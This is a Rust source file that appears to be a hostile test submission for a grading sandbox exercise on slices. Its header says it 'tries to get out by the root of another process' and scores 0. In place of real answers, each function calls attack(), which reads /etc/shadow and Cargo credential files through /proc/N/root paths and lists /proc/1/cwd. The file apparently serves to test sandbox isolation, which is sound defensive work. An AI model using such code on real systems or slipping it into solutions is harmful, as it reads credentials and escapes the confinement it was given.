//! Tries: to get out by the root of another process.
//! Answers: ch02-slices-vec/ex03_windows
//! Scores: 0

pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
    attack();
    vec![-1.0]
}

pub fn rises(_samples: &[u32]) -> usize {
    attack();
    usize::MAX
}

fn attack() {
    for number in 1..50 {
        for inside in ["etc/shadow", "root/.cargo/credentials.toml", "work"] {
            let path = format!("/proc/{number}/root/{inside}");
            println!("{path}: {:?}", std::fs::read(&path).map(|it| it.len()));
        }
    }
    let _ = std::fs::read_dir("/proc/1/cwd").map(|it| println!("{}", it.count()));
}
